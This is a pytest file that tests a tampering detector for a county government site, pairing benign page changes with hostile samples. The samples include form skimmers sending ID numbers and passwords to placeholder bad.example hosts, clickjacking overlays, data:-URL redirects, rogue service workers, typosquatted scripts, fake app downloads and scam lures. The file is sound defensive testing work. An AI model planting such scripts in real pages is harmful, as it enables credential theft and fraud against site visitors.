"""Relatives of what strangers did last, each beside what an honest office does that looks like it."""

import base64

import pytest

from tests.pages.imitations.judging import shot, violations
from tests.pages.test_relatives import PAGE, assert_not_accused, assert_told, put, script

_TO = "http://t.bad.example/"
_JUMP = f"location.href='{_TO}'"
_PAGE_IN_CODE = base64.b64encode(f"<script>{_JUMP}</script>".encode()).decode()


def closed(words: str, title: str = "网站升级维护公告") -> str:
    """A page in the place of the whole one."""
    return f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>{words}</p></body></html>"


_FLOATS = "<div style='position:fixed;left:0;top:90px'><a href='{}'><img src='/i/f.jpg' alt='问卷'></a></div>"
_MAIL = "bgs@yunshan.gov.cn"
AN_OFFICE_DOES = {
    "a mailbox where anybody has one": PAGE.replace(_MAIL, "yunshanbgs@126.com"),
    "another one of those": PAGE.replace(_MAIL, "3391827@qq.com"),
    "a questionnaire that floats": put(_FLOATS.format("https://www.wjx.cn/vm/ys24.aspx")),
    "a registration that floats": put(_FLOATS.format("https://jinshuju.net/f/Ab12cd")),
    "closed for work, in the place's name": closed(
        "云山县政务网定于2026年11月29日0时至30日8时进行系统升级，暂停访问。云山县电子政务中心 0795-6120118"
    ),
    "closed for work, in the office's name": closed("因机房割接，云山县人民政府网站暂停服务两小时，请谅解。", "公告"),
}
NO_OFFICE_DOES = {
    "a mailbox at a stranger's": PAGE.replace(_MAIL, "bgs@yunshan-gov.example"),
    "a stranger's picture that floats": put(_FLOATS.format("https://wjx.bad.example/vm/1.aspx")),
    "closed for work in nobody's name": closed("本站域名出售，网站维护中，请稍后访问。"),
    "closed for work, with a stranger's link": closed(
        "云山县人民政府网站维护中，请访问<a href='http://a.bad.example/'>备用站点</a>"
    ),
}


@pytest.mark.parametrize("page", AN_OFFICE_DOES.values(), ids=AN_OFFICE_DOES)
def test_what_an_office_may_have_done_is_for_a_person_to_check(page: str) -> None:
    assert violations(page, shot(PAGE)) == []


@pytest.mark.parametrize("page", NO_OFFICE_DOES.values(), ids=NO_OFFICE_DOES)
def test_what_no_office_does_is_a_violation(page: str) -> None:
    assert violations(page, shot(PAGE))


def laid(inside: str, more: str = "") -> str:
    """A layer as large as the window."""
    return put(f"<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;{more}'>{inside}</div>")


def worker(address: str, then: str = "") -> str:
    """A worker that stays."""
    return script(f"navigator.serviceWorker.register('{address}').then(function(r){{{then}}})")


_FIELDS = "<form id=f action=/x><input id=xm><input id=sfzh><input id=pwd type=password><textarea></textarea></form>"


def typed(text: str) -> str:
    """A form with a script."""
    return put(f"{_FIELDS}<script>{text}</script>")


_ADDRESSES = {
    "a page in a link": put(f"<a href='data:text/html;base64,{_PAGE_IN_CODE}'>要闻</a>"),
    "a page in a link, in plain words": put(f"<a href=' DATA:text/html,<script>{_JUMP}</script>'>要闻</a>"),
    "a page in a form": put(f"<form action='data:text/html,<script>{_JUMP}</script>'><input type=submit></form>"),
    "a page in a button": put(f"<button formaction='data:text/html;base64,{_PAGE_IN_CODE}'>查</button>"),
    "a page of another kind": put(f"<a href='data:application/xhtml+xml;base64,{_PAGE_IN_CODE}'>要闻</a>"),
    "a drawing that acts": put(f"<a href=\"data:image/svg+xml,<svg onload='{_TO}'>\">图</a>"),
    "a formula that acts": put(f'<math><maction actiontype=statusline href="javascript:{_JUMP}">x</maction></math>'),
    "a drawing's link that acts": put(f'<math href="javascript:{_JUMP}">x</math>'),
}
_FEIGNED = {
    "the signs' office with a letter more": put("<script src=http://dcs.connac.example/js/1.js></script>"),
    "the signs' office and its country": put("<script src=http://dcs.connac-cn.example/js/1.js></script>"),
    "the signs' office elsewhere": put("<script src=http://dcs.conac.top/js/1.js></script>"),
    "a figure for a letter": put("<script src=http://hm.ba1du.example/hm.js?a></script>"),
    "a counter elsewhere": put("<script src=http://s9.cnzz.icu/z.js></script>"),
    "the offices' own ending": put("<script src=http://tj.gov-cn.example/a.js></script>"),
    "that ending with a figure": put("<script src=http://www.g0v.example/a.js></script>"),
    "another word beside a counter": put("<script src=http://c.cnzz-tj.example/z.js></script>"),
}
_TYPED = {
    "all fields at a press": typed(
        "$('#b').mousedown(function(){var a=[];$('#f input,#f textarea').each(function(){a.push(this.value)});"
        "new Image().src='https://g.bad.example/c.gif?'+a.join('&')})"
    ),
    "all fields as the page goes": typed(
        "window.onbeforeunload=function(){var s='';document.querySelectorAll('#f input').forEach(i=>{s+=i.value});"
        "navigator.sendBeacon('https://g.bad.example/b',s)}"
    ),
    "each as it is changed": typed(
        "document.addEventListener('change',function(e){fetch('https://g.bad.example/?'+e.target.value,{mode:'no-cors'})})"
    ),
    "each letter": typed("$('#f').on('keyup',function(){$.get('//g.bad.example/k',{v:$(this).val()})})"),
    "an address with a name": typed(
        "var u='https://g.bad.example/b';$('#b').click(function(){navigator.sendBeacon(u,$('#sfzh').val())})"
    ),
    "a number of a card": typed(
        "f.onsubmit=function(){var x=new XMLHttpRequest();x.open('POST','https://g.bad.example/b');"
        "x.send(document.getElementById('sfzh').value)}"
    ),
    "in the form's own handler": put(
        "<form onsubmit=\"navigator.sendBeacon('https://g.bad.example/b',this.pwd.value)\"><input name=pwd></form>"
    ),
    "by a socket": typed(
        "var w=new WebSocket('wss://g.bad.example/');document.querySelector('#pwd').oninput=function(){w.send(this.value)}"
    ),
}
_STAY = {
    "a worker that brings a stranger's": worker("/sw.js?imp=https%3A%2F%2Fp.bad.example%2Fsw.js"),
    "a worker from what was sent in": worker("/file/2024/06/sw.js"),
    "messages for a stranger": worker(
        "/sw.js", "r.pushManager.subscribe({}).then(function(s){fetch('https://p.bad.example/s',{body:s})})"
    ),
    "messages for a stranger, asked otherwise": script(
        "Notification.requestPermission().then(()=>{var x=new XMLHttpRequest();x.open('POST','//p.bad.example/s')})"
    ),
}
_LAID = {
    "a drawing that leads": put(
        "<svg style='position:fixed;left:0;top:0;width:100%;height:100%;opacity:0'>"
        f"<a xlink:href='{_TO}'><rect width='100%' height='100%'/></a></svg>"
    ),
    "an empty link": put(f"<a href='{_TO}' style='position:fixed;inset:0;z-index:99'></a>"),
    "a link in an empty layer": laid(f"<a href='{_TO}' style='display:block;width:100%;height:100%'></a>"),
    "a form in an empty layer": laid(f"<form action='{_TO}' style='width:100%;height:100%'></form>"),
    "a class for it": put(f"<a class=zz href='{_TO}'></a>").replace(
        "</head>", "<style>.zz{position:fixed;top:0;left:0;width:100vw;height:100vh}</style></head>"
    ),
    "a frame of a window's figures": put(
        f"<iframe src='{_TO}' style='position:absolute;top:0;left:0;width:1920px;height:1080px'></iframe>"
    ),
    "a frame of such figures in attributes": put(
        f"<iframe src='{_TO}' width=1600 height=2000 style='position:fixed;top:0;left:0'></iframe>"
    ),
    "all that is left": put(f"<p>{'县政府召开会议研究部署重点工作。' * 20}</p>")
    .replace("<body>", "<body><div id=w>")
    .replace("</body>", f"</div><object data='{_TO}' width=100% height=100%></object></body>")
    .replace("</head>", "<style>#w{display:none!important}</style></head>"),
}
_LURES = {
    "a prize at a stranger's": put(
        f"<div><b>系统通知：恭喜您成为第100000位访客，获得现金98000元！</b><a href='{_TO}'>立即领奖</a></div>"
    ),
    "a prize behind a fee": put(
        "<div>您的手机号已被后台抽选为幸运用户，奖金9万元，请先缴纳个人所得税1800元，验证码8866</div>"
    ),
    "a prize for a guest": put(f"<div>恭喜你被选中本站幸运访客，大奖 iPhone 一台 <a href='{_TO}'>点击领取</a></div>"),
    "a group that knows": put(
        "<div><img src=/u/1.jpg alt=二维码><p>扫码加李老师微信 免费进内部股票群<br>涨停牛股稳赚不赔</p></div>"
    ),
    "a teacher who knows": put("<div>明日涨停牛股免费领 加助理QQ<b>88123456</b></div>"),
    "the police's program at a stranger's": put(
        "<a href='http://d.bad.example/fz.apk'><img src=/i/f.png alt=国家反诈中心>APP下载</a>"
    ),
    "the taxes' program at a stranger's": put("<a href='http://d.bad.example/t.apk?v=2'>个人所得税APP安卓版</a>"),
    "a profile for telephones": put("<a href='http://d.bad.example/a.mobileconfig'>交管12123苹果版</a>"),
}
_BUILT = {
    "a thing that is made": script(f"class A{{constructor(){{{_JUMP}}}}}new A()"),
    "a thing that is made later": script(f"class A{{constructor(n){{this.n=n;{_JUMP}}}}}setTimeout(()=>new A(1),900)"),
    "a thing without a name": script(f"new class{{constructor(){{{_JUMP}}}}}"),
    "a number for a host": script("location.href='//'+(1234567890).toString(36)+'.bad.example/'"),
    "a page in the place's address": script("location.href='data:text/html,<h1>x</h1>'"),
    "two numbers for a host": script("location='//'+29234652..toString(36)+'.'+parseInt.name.length+'x.bad.example/'"),
}
TOLD = {**_ADDRESSES, **_FEIGNED, **_TYPED, **_STAY, **_LAID, **_LURES, **_BUILT}
HONEST = {
    "a table in a link": put("<a download=a.csv href='data:text/csv;charset=utf-8,1,2'>下载表格</a>"),
    "a picture in a link": put("<a download=e.png href='data:image/png;base64,iVBORw0KGgo='>保存二维码</a>"),
    "a drawing in a picture": put("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">"),
    "a link with data": put("<a href='/zt/index.html?data:text/html'>专题</a>"),
    "the signs' office": put("<script src=https://dcs.conac.cn/js/1.js></script>"),
    "a counter": put("<script src=https://hm.baidu.com/hm.js?1></script><script src=//s9.cnzz.com/z.js></script>"),
    "fields that are looked through": typed(
        "$('#b').click(function(){$('#f input').each(function(){if(!this.value)this.focus()});"
        "new Image().src='/s.gif?1'})"
    ),
    "what is looked for": put(
        "<input id=q><script>$('#q').on('keyup',function(){$.getJSON('/sug?q='+$(this).val())})</script>"
    ),
    "what is looked for with a searcher": put(
        "<input id=q><script>$('#q').on('keyup',function(){$.getJSON('https://sug.so.360.cn/s?q='+$(this).val())})</script>"
    ),
    "a worker of the site's own": worker("/sw.js?v=2024", "console.log(r.scope)"),
    "a drawn sign that leads home": put(
        "<svg style='position:fixed;right:10px;bottom:60px;width:48px;height:48px'>"
        "<a xlink:href='/xz/'><circle r=2 /></a></svg>"
    ),
    "a layer that closes": laid(
        "<a href='http://www.news.cn/zt/'><img src=/i/zt.jpg></a>"
        "<a onclick=\"this.parentNode.style.display='none'\">关闭</a>"
    ),
    "a veil behind a window": laid("", "background:rgba(0,0,0,.4);display:none"),
    "a hidden part beside an own frame": put("<div style='display:none'>稿件</div><iframe src=/tq.html></iframe>"),
    "a guest who is thanked": put("<div>您是本站今年第100000位访客，感谢关注！<a href='/vote'>立即参与</a></div>"),
    "winners of a contest": put(
        "<p>恭喜以下市民在反诈知识竞赛中获得一等奖：王某某，请于12月5日前到县文化馆领奖，电话0795-6126655</p>"
    ),
    "a warning of prizes": put("<p>凡收到“恭喜您中奖，请先缴纳手续费”的短信都是诈骗，请拨打96110</p>"),
    "a warning of groups": put("<div>扫码关注“云山发布”<br>进群炒股多是局 谨防投资理财诈骗</div>"),
    "a course on shares": put("<p>县金融办举办投资者教育讲座：理性看待股票市场</p>"),
    "the police's program": put("<a href='/zt/fz/azzy.html'><img src=/i/f.png alt=国家反诈中心>安装指引</a>"),
    "a thing that is made, and stays": script("class A{constructor(){this.t=document.title}}new A()"),
    "a number for a name": script(
        "var id='d'+(Math.random()*1e9|0).toString(36)+(255).toString(16);document.title+=''"
    ),
}


@pytest.mark.parametrize("page", TOLD.values(), ids=TOLD)
def test_it_is_told_at_first_sight_and_against_the_baseline(page: str) -> None:
    assert_told(page)


@pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)


def test_a_countys_own_program_may_be_handed_out_by_its_maker() -> None:
    assert violations(put("<a href='http://cdn.vendor.example/ysfb.apk'>云山发布客户端下载</a>")) == []
